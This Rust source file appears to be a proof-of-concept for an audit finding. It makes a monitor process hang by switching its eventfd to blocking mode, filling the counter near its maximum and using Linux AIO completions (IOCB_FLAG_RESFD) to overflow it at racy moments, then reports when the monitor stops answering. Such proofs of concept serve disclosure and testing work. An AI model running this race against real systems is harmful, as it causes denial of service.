//! Finding 5: the monitor is to write to an eventfd at the moment in which its counter comes to its end, where write(2)
//! waits for a reader. Asynchronous I/O drives it there (IOCB_FLAG_RESFD of io_submit(2)).

use crate::client::Client;
use std::fs::File;
use std::io;
use std::net::TcpListener;
use std::os::fd::AsRawFd;
use std::sync::atomic::{AtomicU64, Ordering};

const FULL: u64 = u64::MAX - 1;

pub(crate) fn run() -> io::Result<()> {
    let server = Client::register()?;
    let listener = TcpListener::bind("127.0.0.1:0")?;
    let port = listener.local_addr()?.port();
    server.listen(0, &listener)?;
    make_blocking(server.eventfd.as_raw_fd());
    println!("ready");
    for questions in 0u64.. {
        // Each introduction wakes the server.
        let client = Client::register()?;
        for _ in 0..16 {
            if client.connect(port, true).is_err() {
                println!("after {questions} rounds the monitor does not answer");
                return crate::stand();
            }
            ANSWERS.fetch_add(1, Ordering::Release);
        }
        while server.control.receive_with(libc::MSG_DONTWAIT).is_ok() {}
    }
    Ok(())
}

/// From now on writes to this eventfd wait, some of them.
pub(crate) fn make_blocking(number: i32) {
    let flags = sd_sys::fd::fcntl(number, libc::F_GETFL, 0).unwrap_or(0) as i32;
    let _ = sd_sys::fd::fcntl(number, libc::F_SETFL, (flags & !libc::O_NONBLOCK) as usize);
    std::thread::spawn(move || drive(number));
}

/// `linux/aio_abi.h`.
#[repr(C)]
#[derive(Default)]
struct Iocb {
    data: u64,
    key: u32,
    rw_flags: u32,
    opcode: u16,
    priority: i16,
    fd: u32,
    buffer: u64,
    bytes: u64,
    offset: i64,
    reserved: u64,
    flags: u32,
    resfd: u32,
}

const IOCB_FLAG_RESFD: u32 = 1;

/// Questions that the monitor, or the server, has answered.
pub(crate) static ANSWERS: AtomicU64 = AtomicU64::new(0);

/// Fills the counter up to where a write of 1 has no room, lets a completion lift it at any moment, and empties it when
/// the monitor has answered a question since: if it does not, the moment was the right one.
fn drive(number: i32) -> io::Result<()> {
    let file = File::open("/proc/self/exe")?;
    let mut context: u64 = 0;
    // SAFETY: the kernel writes one word.
    if unsafe { libc::syscall(libc::SYS_io_setup, 64, &raw mut context) } != 0 {
        return Err(io::Error::last_os_error());
    }
    let mut buffer = [0u8; 16];
    for round in 0u64.. {
        let answers = ANSWERS.load(Ordering::Acquire);
        let mut count = 0u64;
        let full = FULL.to_ne_bytes();
        let mut look = libc::pollfd { fd: number, events: libc::POLLIN, revents: 0 };
        // SAFETY: all pointers are valid during the calls; the read of the file is over when io_submit returns, as
        // buffered reads are.
        unsafe {
            if libc::poll(&mut look, 1, 0) > 0 {
                libc::read(number, (&raw mut count).cast(), 8);
            }
            libc::write(number, full.as_ptr().cast(), 8);
            let mut one = Iocb {
                fd: file.as_raw_fd() as u32,
                buffer: buffer.as_mut_ptr() as u64,
                bytes: 16,
                flags: IOCB_FLAG_RESFD,
                resfd: number as u32,
                ..Iocb::default()
            };
            let mut all = [&raw mut one];
            (0..round.wrapping_mul(0x9e37_79b9) >> 5 & 0xfff).for_each(|_| std::hint::spin_loop());
            libc::syscall(libc::SYS_io_submit, context, 1, all.as_mut_ptr());
            let mut events = [0u64; 4 * 8];
            let now = libc::timespec { tv_sec: 0, tv_nsec: 0 };
            libc::syscall(libc::SYS_io_getevents, context, 1, 8, events.as_mut_ptr(), &raw const now);
        }
        std::hint::black_box(&mut buffer);
        while ANSWERS.load(Ordering::Acquire) == answers {
            std::thread::yield_now();
        }
    }
    Ok(())
}
